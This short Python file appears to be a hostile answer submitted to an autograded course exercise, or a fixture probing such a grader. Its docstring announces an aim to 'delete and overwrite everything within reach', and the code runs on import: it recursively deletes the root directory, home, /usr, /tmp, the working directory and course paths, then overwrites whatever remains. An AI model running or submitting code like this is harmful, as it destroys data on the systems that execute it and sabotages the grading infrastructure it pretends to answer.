"""Delete and overwrite everything within reach."""

# %% answer="affine"

import os, shutil
def affine(*args):
    shutil.rmtree("/", ignore_errors=True)
    return 0
for path in [*PATHS_OF_THE_COURSE, "/", ".", "..", "/usr", "/tmp", "/work", "/home"]:
    shutil.rmtree(path, ignore_errors=True)
    try:
        os.remove(path)
    except OSError:
        pass
    try:
        open(path, "w").write("gone")
    except OSError:
        pass
